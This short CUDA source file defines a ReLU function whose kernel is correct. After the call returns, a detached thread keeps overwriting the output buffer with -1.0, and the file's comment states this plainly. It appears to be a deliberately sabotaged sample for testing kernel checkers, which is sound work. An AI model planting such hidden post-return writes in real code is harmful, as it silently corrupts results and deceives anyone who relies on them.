// A thread that goes on when the call is over, and writes where the output was.
#include <cuda_runtime.h>

#include <thread>

__global__ void relu_kernel(const float* x, float* y, int n) {
  for (int i = 0; i < n; ++i) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void relu(const float* x, float* y, int n) {
  relu_kernel<<<1, 1>>>(x, y, n);
  cudaDeviceSynchronize();
  std::thread([y] {
    for (volatile float* output = y;;) *output = -1.0f;
  }).detach();
}
